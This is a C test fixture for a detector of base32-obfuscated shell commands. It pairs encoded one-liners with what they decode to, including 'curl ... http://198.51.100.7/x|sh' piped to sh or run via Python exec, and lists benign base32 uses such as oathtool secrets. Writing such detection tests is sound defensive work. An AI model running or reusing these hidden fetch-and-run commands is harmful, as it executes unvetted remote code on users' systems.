// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "base32", "curl -s http://198.51.100.7/x|sh",
		"echo MN2XE3BAFVZSA2DUORYDULZPGE4TQLRVGEXDCMBQFY3S66D4ONUA==="
		"= | base32 -d | sh" },
	{ "base32", "id", "echo NFSA====|base32 -d|sh" },
	{ "base32", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(base64.b32decode('MN2XE3BAFV"
		"ZSA2DUORYDULZPGE4TQLRVGEXDCMBQFY3S66D4ONUA===='))\"" },
};

static const char *const not [] = {
	"oathtool --totp -b JBSWY3DPEHPK3PXP",
	"oathtool --base32 -d 6 JBSWY3DPEHPK3PXP",
	"head -c 20 /dev/urandom | base32",
};

HIDDEN_MAIN("base32")
